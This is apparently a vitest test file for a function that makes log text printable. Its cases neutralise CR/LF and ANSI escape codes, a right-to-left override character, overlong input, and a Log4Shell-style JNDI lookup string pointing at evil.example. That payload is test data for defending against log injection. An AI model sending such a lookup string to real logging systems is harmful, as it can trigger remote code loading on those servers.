import { expect, it } from 'vitest'
import { printableText } from './log-text.ts'

it.each([
  ['alice <a@example.com> costs $5 {really}', 'alice <a@example.com> costs $5 {really}'],
  ['${jndi:ldap://evil.example/a}', '?{jndi:ldap://evil.example/a}'],
  ['$${x}', '$?{x}'],
  ['a\r\nb\u001b[2Jc', 'a??b?[2Jc'],
  ['\u202eecila ä', '?ecila ?'],
  ['x'.repeat(300), 'x'.repeat(256)],
])('LOG-3 makes %j printable', (given, expected) => {
  expect(printableText(given)).toBe(expected)
})
